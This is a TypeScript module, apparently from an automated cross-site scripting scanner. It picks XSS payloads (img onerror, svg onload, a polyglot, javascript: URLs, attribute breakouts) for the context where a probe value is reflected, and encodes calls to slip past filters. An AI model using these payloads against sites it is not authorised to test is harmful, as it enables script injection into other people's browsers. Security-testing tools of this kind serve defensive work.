import { CALLBACK } from '../browser/visit.ts';
import { type Context, contextsOf, type InScript, inScript } from './contexts.ts';
import { asPercent, asWide, type Decoding } from './encodings.ts';

/** A value that calls back when a browser executes it. */
export interface Payload {
  /** `CALL` is the placeholder for the callback. */
  text: string;
  /** Executes only when the element that contains it is clicked or submitted. */
  isPressed?: boolean;
  /** For a path: without spaces, which servers may show encoded, and with slashes as they are. */
  isPath?: boolean;
  /** How the callback is written, where a filter refuses its brackets. */
  call?: CallForm;
}

/** A tagged template has no brackets; an attribute decodes references; some targets decode a value behind their filter. */
export type CallForm = 'template' | 'references' | Decoding;

/** Contains no quotes, because they have a meaning in most contexts. */
export const callWith = (word: string) => `${CALLBACK}(/${word}/.source)`;

const CALLS: Readonly<Record<CallForm, (word: string) => string>> = {
  template: (word) => `${CALLBACK}\`${word}\``,
  references: (word) => [...callWith(word)].map((sign) => `&#${sign.charCodeAt(0)};`).join(''),
  percent: (word) => asPercent(callWith(word)),
  wide: (word) => asWide(callWith(word)),
};
export const writeCall = (word: string, form?: CallForm) => (form ? CALLS[form](word) : callWith(word));
export const writePayload = ({ text, call }: Payload, word: string) => text.replaceAll('CALL', writeCall(word, call));

/**
 * Returns a script that clicks or submits every element with the word in an attribute. It does so in a separate task,
 * so that the page's code runs as the page's own and not as part of our evaluation.
 */
export function pressing(word: string): string {
  return `(() => {
    const has = ({ attributes }) => [...attributes].some(({ value }) => value.includes('${word}'));
    const found = [...document.querySelectorAll(':not(iframe)')].filter(has);
    const press = (each) => each.tagName === 'FORM' ? each.requestSubmit() : each.click?.();
    setTimeout(() => found.forEach(press));
    return found.length > 0 ? 'pressed' : '';
  })()`;
}

/** Sends no request: an empty `src` fails at once. Has no spaces, where some targets cut values. */
export const MARKUP = '<img/src/onerror=CALL>';
/** With other names of tag and attribute. */
const OTHER_MARKUP = '<details/open/ontoggle=CALL>';
/** A shorter one for paths, with fewer slashes. */
const PATH_MARKUP = '<svg/onload=CALL>';

/** Returns the payloads with a further one for each that contains markup. */
export const withPathPayloads = (payloads: readonly Payload[]): Payload[] =>
  payloads.flatMap((payload) => {
    const text = payload.text.replace(MARKUP, PATH_MARKUP);
    return text === payload.text ? [payload] : [payload, { ...payload, text, isPath: true }];
  });

/** Executes as a URL, as script code, in string literals, in attributes, as HTML and as a template expression. */
export const POLYGLOT = `javascript:CALL//'-CALL-'"-CALL-">${MARKUP}{{CALL}}`;
const ODD = `<>"'`;
/** Leaves room for characters that are encoded as entities. */
const MOST_SURVIVED = 200;

/**
 * Returns a probe: a single request shows where a value is reflected and which special characters survive. The context
 * is the one before those characters.
 */
export const oddValue = (word: string) => `${word}a${ODD}${word}b`;

/** Follows a value, for targets that cut or replace its end. Without a meaning in any context of markup. */
export const FILLER = 'zz';

/** Returns the payload with a filler, so that a target that cuts its end leaves the markup whole. */
export const withFiller = (payload: Payload): Payload =>
  payload.text.endsWith('>') ? { ...payload, text: payload.text + FILLER } : payload;

/** Returns the payloads worth trying on a page that reflects the probe, most likely first, without duplicates. */
export function payloadsFor(html: string, word: string): Payload[] {
  const payloads = contextsOf(html, `${word}a`).flatMap(({ context, rest }) => {
    const survived = rest.slice(0, Math.max(0, rest.slice(0, MOST_SURVIVED).indexOf(`${word}b`)));
    return context ? payloadsIn(context, survived) : [];
  });
  return [...new Map(payloads.map((payload) => [payload.text, payload])).values()];
}

/** Returns the payloads for a context, if these characters survive in it. */
export function payloadsIn(context: Context, survived: string): Payload[] {
  const has = (characters: string) => [...characters].every((each) => survived.includes(each));
  if (context.kind === 'script') return [...programPayloads(context, survived), ...markupAfter('</script>', has)];
  if (context.kind === 'comment') return markupAfter('-->', has);
  if (context.kind === 'attribute') return attributePayloads(context, survived);
  return markupAfter(context.inside === undefined ? '' : `</${context.inside}>`, has);
}

type Has = (characters: string) => boolean;
/** Filters that remove tags know some of them only. */
const markupAfter = (end: string, has: Has): Payload[] =>
  has('<>') ? [MARKUP, OTHER_MARKUP].map((markup) => ({ text: end + markup })) : [];

const ADDRESSES = new Set(['href', 'src', 'action', 'formaction', 'data', 'xlink:href']);
/** These load their URL by themselves; other elements need a click. */
const LOADED = new Set(['iframe', 'frame', 'embed', 'object']);

function attributePayloads(context: Context & { kind: 'attribute' }, survived: string): Payload[] {
  const { tag, name, quote, before } = context;
  const has = (characters: string) => [...characters].every((each) => survived.includes(each));
  // Browsers decode entities in an attribute before they use its value, so escaping does not help here.
  if (name === 'srcdoc') return [{ text: MARKUP }];
  if (name.startsWith('on')) {
    return programPayloads(
      { isRun: true, within: inScript(`${decoded(before)}z`, decoded(before).length) },
      decoded(survived),
    ).map(pressed);
  }
  const isAddress = ADDRESSES.has(name) && before.trim() === '';
  const address = tag === 'script' ? 'data:text/javascript,CALL//' : 'javascript:CALL//';
  return [
    ...(has(`${quote}<>`) ? [{ text: `${quote}>${MARKUP}` }] : []),
    ...(isAddress ? [{ text: address, ...(!LOADED.has(tag) && tag !== 'script' && { isPressed: true }) }] : []),
    ...(has(quote) ? [{ text: `z${quote} autofocus tabindex=0 onfocus=CALL z=${quote}` }] : []),
  ];
}

const pressed = (payload: Payload): Payload => ({ ...payload, isPressed: true });
const decoded = (text: string) =>
  text.replace(/&#0*39;|&#x0*27;|&apos;/gi, "'").replace(/&#0*34;|&#x0*22;|&quot;/gi, '"');

const IN_PROGRAM: Readonly<Record<InScript, readonly string[]>> = {
  '"': ['"-CALL-"'],
  "'": ["'-CALL-'"],
  '`': [`\${CALL}`],
  code: ['CALL'],
  'line comment': ['\nCALL//'],
  'block comment': ['*/CALL/*'],
  unknown: ["'-CALL-'", '"-CALL-"'],
};

function programPayloads({ isRun, within }: { isRun: boolean; within: InScript }, survived: string): Payload[] {
  if (!isRun) return [];
  return IN_PROGRAM[within].flatMap((text) => {
    const [quote = ''] = /^["']/.exec(text) ?? [];
    if (survived.includes(`\\${quote}`) && quote !== '') return [{ text: `\\${quote}-CALL//` }];
    return survived.includes(quote) ? [{ text }] : [];
  });
}
